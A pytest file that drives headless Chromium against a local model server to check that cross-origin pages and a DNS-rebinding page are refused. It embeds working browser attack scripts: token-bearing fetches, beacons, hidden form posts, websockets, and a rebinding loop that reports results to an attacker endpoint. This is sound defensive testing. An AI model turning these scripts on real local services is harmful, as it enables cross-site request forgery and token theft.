"""A real browser, with a page of somebody else's open in it: nothing that page tries is answered.

Needs a headless Chromium (Debian: apt install chromium-headless-shell). Where there is none these tests are skipped,
loudly; the same refusals are tested with plain requests in ``test_guard``.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from ..fakes import FakeModel
from .live import live_server
from .test_openai import wait_for

NAMES = ("chromium-headless-shell", "chrome-headless-shell", "chromium", "chromium-browser", "google-chrome", "chrome")
BROWSER = os.environ.get("CHATPOSE_CHROMIUM") or next((found for name in NAMES if (found := shutil.which(name))), None)
pytestmark = pytest.mark.skipif(
    BROWSER is None,
    reason="LOUDLY: no Chromium, so no real browser tried to break in (Debian: apt install chromium-headless-shell)",
)
PATIENCE_S = 240.0

# What a hostile page on another port (another origin) can send, each with what it could read of the answer.
ATTACKS = """
const json = {"Content-Type": "application/json"}, text = {"Content-Type": "text/plain"};
const body = JSON.stringify({task: "pose", prompt: "kneel"});
const read = (path, options) => fetch(server + path, options).then(r => r.type == "opaque" ? "opaque" : r.text());
const loads = (tag, set) => new Promise((yes, no) => {
  const e = document.createElement(tag); e.onload = () => yes("loaded"); e.onerror = () => no("refused");
  set(e); document.body.append(e);
});
const opens = made => new Promise((yes, no) => {
  made.onopen = () => yes("open"); made.onerror = () => { made.close(); no("refused"); };
});
const attacks = {
  "fetch health": () => read("/health"),
  "fetch models": () => read("/v1/models"),
  "fetch with a token": () => read("/v1/models", {headers: {Authorization: "Bearer " + token}}),
  "post a job": () => read("/v1/jobs", {method: "POST", headers: json, body}),
  "post without asking": () => read("/v1/jobs", {method: "POST", mode: "no-cors", headers: text, body}),
  "delete": () => read("/v1/jobs/x", {method: "DELETE"}),
  "beacon": async () => {
    navigator.sendBeacon(server + "/v1/jobs", new Blob([body], {type: "text/plain"})); return "opaque";
  },
  "form": async () => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f"; document.body.append(frame, form);
    Object.assign(form, {method: "post", action: server + "/v1/jobs", enctype: "text/plain", target: "f"});
    form.submit(); return "opaque";
  },
  "script": () => loads("script", e => e.src = server + "/v1/models"),
  "image": () => loads("img", e => e.src = server + "/health"),
  "events": () => opens(new EventSource(server + "/v1/jobs/x/events")),
  "websocket": () => opens(new WebSocket(server.replace("http", "ws") + "/v1/jobs")),
};
(async () => {
  const seen = {};
  for (const name in attacks) {
    try { seen[name] = String(await attacks[name]()).slice(0, 200); } catch (error) { seen[name] = "refused"; }
  }
  await report(seen);
})();
"""
# What a page can do once its own name points to this computer: to the browser, the server is then the page's origin.
REBOUND = """
(async () => {
  await report("here");
  for (;;) {
    try {
      const answer = await fetch("/v1/models", {cache: "no-store", headers: {Authorization: "Bearer " + token}});
      const words = await answer.text();
      if (!words.includes("the attacker's own")) {
        const health = await fetch("/health", {cache: "no-store"});
        return await report([answer.status, words, health.status, await health.text()]);
      }
    } catch (error) { }
    await new Promise(wake => setTimeout(wake, 100));
  }
})();
"""


class Attacker:
    """A web server that serves one page, and hears what the page found out."""

    def __init__(self, script=""):
        self.script, self.reports = script, []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                page = f"<!doctype html><body><script>{attacker.script}</script>"
                self.answer((page if self.path == "/" else "the attacker's own").encode())

            def do_POST(self):
                attacker.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.answer(b"")

            def answer(self, data):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(data)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_):
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.http.server_address[1]
        threading.Thread(target=self.http.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def leave(self):
        """Gives the port free."""
        self.http.shutdown()
        self.http.server_close()


@contextmanager
def browser(folder, url, *options):
    line = [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    line += ["--disable-dev-shm-usage", "--no-proxy-server", "--remote-debugging-port=0"]
    line += [f"--user-data-dir={folder}/profile"]
    group = {"start_new_session": True} if os.name == "posix" else {}
    with (folder / "browser.txt").open("wb") as log:
        running = subprocess.Popen([*line, *options, url], stdin=subprocess.DEVNULL, stdout=log, stderr=log, **group)
    try:
        yield
    finally:
        if os.name == "posix":  # what is in the path is often a script that starts the browser
            os.killpg(running.pid, signal.SIGKILL)
        running.kill()
        running.wait()


def reporting(port):
    """The page's way to say what it saw, to a server of its own: the browser lets a page send, not read."""
    options = '{method: "POST", mode: "no-cors", body: JSON.stringify(seen)}'
    return f'const report = seen => fetch("http://127.0.0.1:{port}/report", {options});\n'


def test_a_page_of_another_origin_gets_nothing_and_does_nothing(tmp_path):
    with live_server(model=FakeModel(stands=True)) as live:
        page = Attacker()
        start = f"const server = {live.url!r}, token = {'t' * 43!r};\n"
        page.script = reporting(page.port) + start + ATTACKS
        with browser(tmp_path, f"http://127.0.0.1:{page.port}/"):
            wait_for(lambda: page.reports, PATIENCE_S)
        page.leave()
        (seen,) = page.reports
        assert len(seen) == 12 and set(seen.values()) <= {"refused", "opaque"}, seen
        counts = live.service.counts.by_status
        wait_for(lambda: counts[403] >= 12)  # each was tried, and refused; a beacon and a form may come late
        assert set(counts) == {403} and live.jobs.stats().submitted == 0


def test_a_page_whose_name_was_rebound_to_this_computer_gets_nothing(tmp_path):
    ear, page = Attacker(), Attacker()
    page.script = f"const token = {'t' * 43!r};\n" + reporting(ear.port) + REBOUND
    rules = "--host-resolver-rules=MAP rebound.example 127.0.0.1"
    with browser(tmp_path, f"http://rebound.example:{page.port}/", rules):
        wait_for(lambda: ear.reports, PATIENCE_S)
        page.leave()  # and now the server has the port: for the browser it is the same page's own server still
        with live_server(model=FakeModel(stands=True), port=page.port) as live:
            assert live.url.endswith(f":{page.port}")
            wait_for(lambda: len(ear.reports) == 2, PATIENCE_S)
    ear.leave()
    status, words, health_status, health = ear.reports[1]
    assert (status, json.loads(words)["error"]["code"]) == (421, "wrong_host")
    assert (health_status, json.loads(health)["error"]["code"]) == (421, "wrong_host")
